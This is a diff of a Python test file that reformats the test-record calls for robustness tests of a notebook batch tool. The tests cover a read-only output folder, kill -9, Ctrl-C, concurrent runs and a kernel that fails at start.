@@ -1003,8 +1453,11 @@ def test_a_full_disk_is_a_clear_error_without_half_written_files(tmp_path: Path,
 def test_a_read_only_output_folder_is_a_clear_error(tmp_path: Path, monkeypatch, record) -> None:
     import errno
 
-    row = record("read_only_output", "`run --out` on a read-only file system (EROFS)", "exit 1; 'read-only file "
-                 "system'; no traceback")
+    row = record(
+        "read_only_output",
+        "`run --out` on a read-only file system (EROFS)",
+        "exit 1; 'read-only file system'; no traceback",
+    )
     params, out = _one_client_params(tmp_path), tmp_path / "ro" / "reports"
     real_mkdir = Path.mkdir
 
@@ -1044,8 +1497,11 @@ def test_kill_9_of_run_leaves_no_process_behind(tmp_path: Path, record) -> None:
 
     from hostile.processes import alive, descendants, kernels_below, start_run, wait_for
 
-    row = record("run_kill_9", "`kill -9` of `run` while two workers each run a hanging notebook",
-                 "within seconds no worker, kernel or helper process is left; no `.staging/`")
+    row = record(
+        "run_kill_9",
+        "`kill -9` of `run` while two workers each run a hanging notebook",
+        "within seconds no worker, kernel or helper process is left; no `.staging/`",
+    )
     params = _hanging_clients(tmp_path, {"hang-one": "Hang One hang", "hang-two": "Hang Two hang"})
     out = tmp_path / "reports"
     proc = start_run(params, out)
@@ -1091,12 +1547,17 @@ def test_ctrl_c_stops_the_run_and_a_second_run_is_refused(tmp_path: Path, monkey
     from hostile.processes import alive, descendants, kernels_below, start_run, wait_for
 
     rows = {
-        "run_ctrl_c": record("run_ctrl_c", "Ctrl-C (SIGINT to the process group) while one client hangs in a "
-                             "notebook", "stops within seconds; exit 130, 'interrupted', no traceback; the earlier "
-                             "good report kept; no kernel, no `.staging/`; foreign files in `.staging/` kept"),
-        "run_concurrent": record("run_concurrent", "a second `run` on the same `--out` while the first runs",
-                                 "the second exits 1 at once with 'another kpi-workbook run (pid …)'; the first "
-                                 "is not disturbed"),
+        "run_ctrl_c": record(
+            "run_ctrl_c",
+            "Ctrl-C (SIGINT to the process group) while one client hangs in a notebook",
+            "stops within seconds; exit 130, 'interrupted', no traceback; the earlier "
+            "good report kept; no kernel, no `.staging/`; foreign files in `.staging/` kept",
+        ),
+        "run_concurrent": record(
+            "run_concurrent",
+            "a second `run` on the same `--out` while the first runs",
+            "the second exits 1 at once with 'another kpi-workbook run (pid …)'; the first is not disturbed",
+        ),
     }
     params = _hanging_clients(tmp_path, {"alpha": "Alpha Shop", "beta": "Beta Shop"})
     out = tmp_path / "reports"
@@ -1110,8 +1571,12 @@ def test_ctrl_c_stops_the_run_and_a_second_run_is_refused(tmp_path: Path, monkey
     alpha_before = _mtime(out / "alpha" / "summary.json")
     proc = start_run(params, out)
     try:
-        assert wait_for(lambda: _mtime(out / "alpha" / "summary.json") not in (alpha_before, None)
-                        and len(kernels_below(proc.pid)) >= 1, 150), "alpha was not re-run"
+        assert wait_for(
+            lambda: (
+                _mtime(out / "alpha" / "summary.json") not in (alpha_before, None) and len(kernels_below(proc.pid)) >= 1
+            ),
+            150,
+        ), "alpha was not re-run"
         time.sleep(3)  # beta is inside its hanging notebook now
         code2, output2, _ = run_cli_batch(params, out, monkeypatch, workers=1)
         below = descendants(proc.pid)
@@ -1160,8 +1625,11 @@ def test_a_kernel_that_dies_at_start_is_replaced(monkeypatch, record) -> None:
 
     import kpi_helpers.run.batch as batch
 
-    row = record("kernel_start_retried", "a kernel whose shell port is already taken (what `--dask local` hit when "
-                 "kernels started at the same moment)", "the dead kernel is replaced; the client gets a live kernel")
+    row = record(
+        "kernel_start_retried",
+        "a kernel whose shell port is already taken (what `--dask local` hit when kernels started at the same moment)",
+        "the dead kernel is replaced; the client gets a live kernel",
+    )
     taken = socket.socket()
     taken.bind(("127.0.0.1", 0))
     taken.listen()
